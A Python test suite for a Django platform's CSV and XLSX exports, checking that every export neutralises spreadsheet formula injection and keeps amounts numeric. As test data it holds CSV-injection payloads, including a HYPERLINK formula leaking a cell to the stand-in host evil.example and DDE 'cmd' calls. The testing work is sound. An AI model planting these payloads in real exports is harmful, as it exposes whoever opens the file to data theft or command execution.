"""CSV injection: every CSV and XLSX export neutralises text that a spreadsheet would run as a
formula (= + - @, also after a tab or carriage return), and keeps numbers numbers, negative
amounts included.

The exports are found in the source: a new export that is not exercised here fails
`test_every_export_is_covered`.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import resolve
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from samen.core import exports

pytestmark = pytest.mark.sqlite

SRC = Path(exports.__file__).resolve().parent.parent
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-12.50",  # text that looks like a number is still text
]


def read_csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def read_xlsx(body: bytes):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"a formula in {name}"
    return load_workbook(io.BytesIO(body)).active


def assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):
                assert NUMBER.match(cell), f"unneutralised cell {cell!r}"


def assert_xlsx_safe(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(DANGEROUS), f"{cell.coordinate}: {cell.value!r}"


# --- the helper ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_with_a_formula_character_is_neutralised(text):
    assert exports.neutralise(text) == "'" + text
    [header, row] = read_csv(exports.to_csv(["kolom"], [[text]]))
    assert row == ["'" + text]
    sheet = read_xlsx(exports.to_xlsx("Blad", ["kolom"], [[text]]))
    assert sheet["A2"].value == "'" + text.replace("\r", "\n")  # XML reads CR as LF
    assert sheet["A2"].data_type == "s"


def test_harmless_text_is_unchanged():
    for text in ("Govroam", "GM0363", "a=b", "1+1", "e-mail", " =1", "'al geciteerd", ""):
        assert exports.neutralise(text) == text


def test_numbers_stay_numbers_negative_amounts_included():
    row = [Decimal("-12.50"), Decimal("0.00"), Decimal("1234567.89"), -3, 42, 2.5, True]
    body = exports.to_csv(["a", "b", "c", "d", "e", "f", "g"], [row])
    line = body.decode("utf-8").split("\r\n")[1]
    assert line == "-12.50;0.00;1234567.89;-3;42;2.5;True"
    sheet = read_xlsx(exports.to_xlsx("Blad", list("abcdefg"), [row]))
    values = [cell.value for cell in sheet[2]]
    assert [Decimal(str(v)) for v in values[:6]] == [Decimal(v) for v in row[:6]]
    assert [cell.data_type for cell in sheet[2]][:6] == ["n"] * 6
    assert values[6] == "True"  # a boolean is text, never a number


def test_headers_dates_and_empty_values():
    body = exports.to_csv(["=kop", "datum", "leeg"], [[dt.date(2017, 1, 1), None, ""]])
    assert read_csv(body) == [["'=kop", "datum", "leeg"], ["2017-01-01", "", ""]]
    sheet = read_xlsx(exports.to_xlsx("Blad", ["=kop"], [[dt.date(2017, 1, 1)]]))
    assert sheet["A1"].value == "'=kop"
    assert sheet["A2"].value == "2017-01-01"


def test_control_characters_do_not_break_the_xlsx():
    """XML 1.0 cannot hold most control characters; the export drops them instead of failing."""
    text = "Voor\x00zie\x07ning\x1b[31m =1\x0b"
    sheet = read_xlsx(exports.to_xlsx("Blad", ["naam"], [[text], ["\x01=1+1"]]))
    assert sheet["A2"].value == "Voorziening[31m =1"
    assert sheet["A3"].value == "'=1+1"  # dropping the control character exposes the formula
    [_, row, row2] = read_csv(exports.to_csv(["naam"], [[text], ["\x01=1+1"]]))
    assert row == [text]
    assert row2 == ["\x01=1+1"]  # CSV keeps the text; it does not start with a formula character


AMOUNTS = st.decimals(allow_nan=False, allow_infinity=False, places=2)


@given(st.lists(st.one_of(st.text(), AMOUNTS, st.integers())))
def test_property_no_cell_is_ever_a_formula(values):
    rows = [[value] for value in values]
    assert_csv_safe(read_csv(exports.to_csv(["waarde"], rows)))
    assert_xlsx_safe(read_xlsx(exports.to_xlsx("Blad", ["waarde"], rows)))


# --- every export of the platform ------------------------------------------------------------

EXPORT_VIEWS = {
    "samen/portfolio/views.py": {"catalogus_export", "prioritering_export"},
    "samen/deelnames/views.py": {"deelnemers_export", "voortgang"},
    "samen/fonds/views.py": {"bijdragen_export", "controle", "verantwoording"},
    "samen/abonnementen/views.py": {"facturen_export"},
    "samen/audit/views.py": {"zoeken"},
    "samen/web/views.py": {"gemeente_geld_export", "gemeente_facturen_export"},
    "samen/gremia/views.py": {"samenstelling_export", "besluitenlijst_export"},
    "samen/ledenvergadering/views.py": {"export"},
}


def _functions_calling(tree: ast.AST, attribute: str) -> set[str]:
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            for call in ast.walk(node):
                if (
                    isinstance(call, ast.Call)
                    and isinstance(call.func, ast.Attribute)
                    and call.func.attr == attribute
                    and isinstance(call.func.value, ast.Name)
                    and call.func.value.id == "exports"
                ):
                    found.add(node.name)
    return found


def test_every_export_is_covered():
    """Every view that builds an export goes through samen.core.exports and is tested below;
    no other module writes CSV or XLSX itself."""
    found: dict[str, set[str]] = {}
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC.parent).as_posix()
        text = path.read_text(encoding="utf-8")
        if relative != "samen/core/exports.py":
            for marker in ("csv.writer", "csv.DictWriter", "openpyxl", "xlsxwriter", "text/csv"):
                assert marker not in text, f"{relative} writes {marker} itself"
        names = _functions_calling(ast.parse(text), "response")
        names |= _functions_calling(ast.parse(text), "to_csv")
        names |= _functions_calling(ast.parse(text), "to_xlsx")
        if names:
            found[relative] = names
    assert found == EXPORT_VIEWS


HOSTILE = {
    "voorziening": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "omschrijving": "+cmd|' /C calc'!A0",
    "organisatie": "@SUM(1+1)",
    "gemeente": "-2+3+cmd|' /C calc'!A0",
    "activiteit": "\t=1+1",
    "toelichting": "\r=1+1",
    "doel": "=1+1",
    "arrangement": "=2*3",
    "lid": '=HYPERLINK("http://evil.example")',
    "besluitpunt": "+SUM(1+1)",
}


def _unique(text: str):
    """The text followed by the row's primary key (for columns that must stay unique)."""
    from django.db.models import CharField, Value
    from django.db.models.functions import Cast, Concat

    return Concat(Value(text), Cast("pk", CharField()))


@pytest.fixture
def hostile(demo):
    """The demo content with formulas in every kind of text an export shows."""
    from samen.accounts.models import Organisatie
    from samen.deelnames.models import Deelname, Doel
    from samen.fonds.models import Activiteit, Toelichting
    from samen.gemeenten.models import Gemeente
    from samen.portfolio.models import Voorziening

    deelname = Deelname.objects.select_related("voorziening", "gemeente").order_by("pk").first()
    voorziening = deelname.voorziening
    Voorziening.objects.filter(pk=voorziening.pk).update(
        naam=HOSTILE["voorziening"], korte_omschrijving=HOSTILE["omschrijving"]
    )
    Organisatie.objects.update(
        naam=_unique(HOSTILE["organisatie"]), afkorting=_unique(HOSTILE["organisatie"])
    )
    Gemeente.objects.filter(code__in=["GM0363", deelname.gemeente.code]).update(
        naam=HOSTILE["gemeente"]
    )
    Activiteit.objects.update(naam=_unique(HOSTILE["activiteit"]))
    from samen.abonnementen.models import Arrangement

    Arrangement.objects.update(naam=_unique(HOSTILE["arrangement"]))
    toelichting = Toelichting.objects.order_by("pk").first()
    toelichting.tekst = HOSTILE["toelichting"]
    toelichting.save()
    Doel.objects.create(
        voorziening=voorziening,
        omschrijving=HOSTILE["doel"],
        datum=dt.date(2030, 1, 1),
        percentage=Decimal("50"),
    )
    from samen.audit.services import record

    record("overig", object_type="x", object_id="1", object_omschrijving=HOSTILE["voorziening"])
    from samen.gremia.models import Besluitenlijstpunt, Lidmaatschap

    Lidmaatschap.objects.update(naam=HOSTILE["lid"])
    punt = Besluitenlijstpunt.objects.select_related("vergadering__gremium").order_by("pk").first()
    Besluitenlijstpunt.objects.filter(pk=punt.pk).update(tekst=HOSTILE["besluitpunt"])
    return {
        "voorziening": voorziening,
        "jaar": toelichting.jaar,
        "vergadering": punt.vergadering,
    }


def _export_urls(hostile) -> list[tuple[str, str, set[str]]]:
    """(url, format, the hostile texts that must appear in it, neutralised)."""
    from samen.portfolio.models import WegingVersie

    v = hostile["voorziening"]
    from samen.ledenvergadering.models import Ledenvergadering

    weging = WegingVersie.objects.order_by("pk").first()
    balv = Ledenvergadering.objects.get(titel__startswith="BALV 30 november 2016")
    vergadering = hostile["vergadering"]
    urls = []
    for fmt in ("csv", "xlsx"):
        urls += [
            (
                f"/voorzieningen/export.{fmt}",
                fmt,
                {"voorziening", "omschrijving", "organisatie"},
            ),
            (f"/prioritering/export.{fmt}?weging={weging.uuid}", fmt, {"voorziening"}),
            (f"/voorzieningen/{v.uuid}/deelnemers.{fmt}", fmt, {"gemeente"}),
            (f"/fonds/bijdragen.{fmt}", fmt, {"gemeente"}),
            (f"/facturen.{fmt}", fmt, {"gemeente"}),
            (f"/audit?formaat={fmt}&objectType=x", fmt, {"voorziening"}),
            (f"/gemeenten/GM0363/geld.{fmt}", fmt, {"arrangement"}),
            (f"/gemeenten/GM0363/facturen.{fmt}", fmt, {"arrangement"}),
            (f"/ledenvergaderingen/{balv.uuid}/uitslag.{fmt}", fmt, {"gemeente"}),
            (f"/gremia/{vergadering.gremium.uuid}/samenstelling.{fmt}", fmt, {"lid"}),
            (f"/vergaderingen/{vergadering.uuid}/besluitenlijst.{fmt}", fmt, {"besluitpunt"}),
        ]
    urls += [
        ("/voortgang?formaat=xlsx&van=2010-01-01&tot=2030-12-31", "xlsx", {"voorziening"}),
        ("/fonds/controle?formaat=xlsx", "xlsx", {"activiteit"}),
        (
            f"/fonds/verantwoording?formaat=xlsx&jaar={hostile['jaar']}",
            "xlsx",
            {"activiteit", "toelichting"},
        ),
    ]
    return urls


@pytest.mark.django_db
def test_every_export_neutralises_formulas_and_keeps_numbers(hostile, admin_client):
    checked = set()
    for url, fmt, expected in _export_urls(hostile):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        body = b"".join(response) if response.streaming else response.content
        if fmt == "csv":
            rows = read_csv(body)
            assert_csv_safe(rows)
            cells = {cell for row in rows for cell in row}
        else:
            sheet = read_xlsx(body)
            assert_xlsx_safe(sheet)
            rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
            cells = {cell for row in rows for cell in row if isinstance(cell, str)}
        for key in expected:
            text = HOSTILE[key] if fmt == "csv" else HOSTILE[key].replace("\r", "\n")
            assert any(cell.startswith("'" + text) for cell in cells), (url, key)
        checked.add(resolve(url.split("?")[0]).func.__name__)
    assert checked == set().union(*EXPORT_VIEWS.values())


@pytest.mark.django_db
def test_amounts_in_invoice_exports_stay_numbers(hostile, admin_client):
    """The demo's credit note has a negative total: an unquoted number in the CSV and a number
    in the XLSX."""
    from samen.abonnementen.models import Factuur

    credit = Factuur.objects.filter(totaal__lt=0).order_by("pk").first()
    assert credit is not None
    rows = read_csv(admin_client.get("/facturen.csv").content)
    header, data = rows[0], rows[1:]
    row = next(r for r in data if r[0] == credit.nummer)
    assert row[header.index("totaal")] == str(credit.totaal)
    raw = admin_client.get("/facturen.csv").content.decode("utf-8")
    assert f";{credit.totaal};" in raw  # not quoted, no apostrophe

    sheet = read_xlsx(admin_client.get("/facturen.xlsx").content)
    header = [cell.value for cell in sheet[1]]
    column = header.index("totaal")
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == credit.nummer:
            assert row[column].data_type == "n"
            assert Decimal(str(row[column].value)) == credit.totaal < 0
            break
    else:
        raise AssertionError("credit note not in the export")


@pytest.mark.django_db
def test_contribution_amounts_stay_numbers(hostile, admin_client):
    rows = read_csv(admin_client.get("/fonds/bijdragen.csv").content)
    header = rows[0]
    for row in rows[1:]:
        assert NUMBER.match(row[header.index("bedrag")]), row
        assert row[header.index("inwoners")].isdigit(), row
    sheet = read_xlsx(admin_client.get("/fonds/bijdragen.xlsx").content)
    for row in sheet.iter_rows(min_row=2):
        assert row[3].data_type == "n", row[3].value


@pytest.mark.django_db
def test_a_control_character_entered_through_the_api_does_not_break_the_xlsx(make_user):
    """The API accepts any text but NUL; the XLSX export used to fail on such a name (500)."""
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(make_user(is_superuser=True))
    payload = {
        "naam": "Bel\x07 =1+1",
        "korteOmschrijving": "\x1b=cmd|' /C calc'!A0",
        "spoor": 2,
        "domein": "belastingen",
        "soort": "app",
        "gebruikers": "gemeente",
        "startdatum": "2017-01-01",
        "factsheet": {"watIsHet": "Een app."},
    }
    assert api.post("/api/v1/voorzieningen", payload, format="json").status_code == 201
    api.force_login(make_user(is_superuser=True))
    response = api.get("/voorzieningen/export.xlsx")
    assert response.status_code == 200
    sheet = read_xlsx(response.content)
    assert_xlsx_safe(sheet)
    cells = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "Bel =1+1" in cells
    assert "'=cmd|' /C calc'!A0" in cells
    rows = read_csv(api.get("/voorzieningen/export.csv").content)
    assert_csv_safe(rows)
    assert rows[1][1:3] == ["Bel\x07 =1+1", "\x1b=cmd|' /C calc'!A0"]
